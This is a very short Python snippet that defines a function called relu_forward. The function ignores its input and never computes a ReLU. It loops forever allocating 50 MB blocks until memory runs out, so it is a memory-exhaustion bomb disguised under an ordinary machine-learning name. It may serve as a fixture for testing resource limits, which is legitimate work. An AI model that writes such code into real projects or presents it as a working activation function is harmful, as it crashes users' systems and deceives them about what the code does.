def relu_forward(z):
    kept = []
    while True:
        kept.append(bytes(50_000_000))
